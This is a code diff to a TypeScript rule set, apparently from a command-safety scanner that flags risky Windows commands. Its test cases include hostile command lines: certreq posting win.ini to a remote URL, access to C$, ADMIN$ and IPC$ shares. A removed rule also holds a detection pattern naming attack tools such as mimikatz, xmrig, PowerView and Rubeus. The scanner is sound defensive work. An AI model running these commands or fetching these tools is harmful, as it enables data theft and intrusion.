@@ -16,7 +16,9 @@ export const signedProgramRules: readonly CommandRule[] = [
     safer: 'certreq -enroll',
     saw: (command) => {
       const text = joinWords(command);
-      return !/ (?:\/\?|--help|-h) /.test(`${text} `) && findSignedUse(command.name, text) !== undefined;
+      return (
+        !/ (?:\/\?|--help|-h) {1,2}$/.test(`${text} `) && findSignedUse(command.name, text) !== undefined
+      );
     },
     hits: [
       'certreq.exe -Post -config https://x.test C:\\Windows\\win.ini a.txt',
@@ -36,6 +38,12 @@ export const signedProgramRules: readonly CommandRule[] = [
       'ftp host',
       'update --check',
       'chrome --headless --print-to-pdf a.html',
+      'chrome --headless --dump-dom https://x.test',
+      'dnx dotnetsay',
+      'aspnet_compiler -v /app -p src out',
+      'findstr "server.port:8080" application.yml',
+      'netsh bridge show adapter',
+      'wt -d . cmd',
     ],
   },
   {
@@ -49,7 +57,11 @@ export const signedProgramRules: readonly CommandRule[] = [
       !/^(?:echo|write-host|git|grep|rg|findstr|rem)$/.test(command.name) &&
       (ADMIN_SHARE.test(joinWords(command)) ||
         command.redirections.some(({ target }) => ADMIN_SHARE.test(` ${target}`))),
-    hits: ['copy \\\\10.0.0.5\\C$\\Users\\a.txt .', 'cmd.exe /c hostname > \\\\host\\ADMIN$\\out.txt'],
+    hits: [
+      'copy \\\\10.0.0.5\\C$\\Users\\a.txt .',
+      'net use %logonserver%\\IPC$ /user:a b',
+      'cmd.exe /c hostname > \\\\host\\ADMIN$\\out.txt',
+    ],
     misses: ['copy \\\\server\\public\\a.txt .', 'echo \\\\host\\C$\\a', 'dir \\\\wsl$\\Ubuntu\\home'],
   },
   {
@@ -102,42 +114,8 @@ export const signedProgramRules: readonly CommandRule[] = [
     hits: ['wmic /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName'],
     misses: ['wmic cpu get name', 'Get-CimInstance Win32_OperatingSystem'],
   },
-  {
-    id: 'execution.attack_tool',
-    tag: 'dangerous.execution',
-    severity: 'high',
-    programs: '*',
-    description:
-      'Fetches, starts or loads a tool that is known for attacks, by its name in an argument or an address.',
-    safer: 'curl -O https://x.test/tool.tgz',
-    saw: (command) => {
-      if (
-        /^(?:echo|printf|write-host|write-output|write-verbose|git|gh|glab|grep|rg|ag|apt|brew|npm|pip|man|ls|cat|rm|find|which|touch|mkdir|test|\[\[?|logger|say|true|:|rem|case|export)$/.test(
-          command.name,
-        )
-      )
-        return false;
-      return (
-        ATTACK_TOOL.test(command.program) ||
-        command.words.some(({ text }) => text.length < 600 && ATTACK_TOOL.test(text))
-      );
-    },
-    hits: [
-      'curl -OL https://github.com/x/xmrig/releases/download/v6/xmrig-6.tar.gz',
-      'Start-Process C:\\tools\\Akagi64.exe',
-      'Import-Module .\\PowerView.ps1',
-      '"C:\\x\\Backstab64.exe" -k -n a',
-    ],
-    misses: [
-      'curl -O https://x.test/tool.tgz',
-      'grep -r mimikatz .',
-      'git log --grep xmrig',
-      'cat Rubeus.md',
-    ],
-  },
 ];
 
-const ADMIN_SHARE = /(?<![\w\\])\\\\(?!wsl)[\w.%${}:-]{1,64}\\(?:[A-Za-z]|ADMIN|admin|IPC)\$(?:\\|$|\s)/;
+const ADMIN_SHARE =
+  /(?:(?<![\w\\])\\\\(?!wsl)[\w.%${}:-]{1,64}|%logonserver%)\\(?:[A-Za-z]|ADMIN|admin|IPC)\$(?:\\|$|\s)/;
 const KEY_FILE = /\.(?:pfx|ppk|p12|pem|kdbx|key|pgp|gpg|p7b|asc|jks|ovpn|rdp|vnc|kdb)\b/gi;
-const ATTACK_TOOL =
-  /(?:^|[/\\=])(?:(?:mimikatz|xmrig|akagi(?:32|64)?|backstab(?:64)?|phant0m|sharphound|bloodhound|rubeus|seatbelt|powerview|powerup|sharpup|soaphound|lazagne|linpeas|winpeas(?:any|x64)?|evil-winrm|crackmapexec|nanodump|remcom|psexec_psh|sliver-(?:client|server)|chisel|ligolo-ng|responder|inveigh|certify|certipy|sharpdpapi|kerbrute|cobaltstrike|sandcat(?:\.go)?)(?:[-_.][\w.-]{0,40})?(?:\.(?:exe|ps1|sh|py|dll|zip|tar\.gz|tgz))|(?:xmrig|mimikatz|evil-winrm|crackmapexec|linpeas\.sh|bloodhound-python|sandcat\.go(?:-\w{3,10})?))$/i;
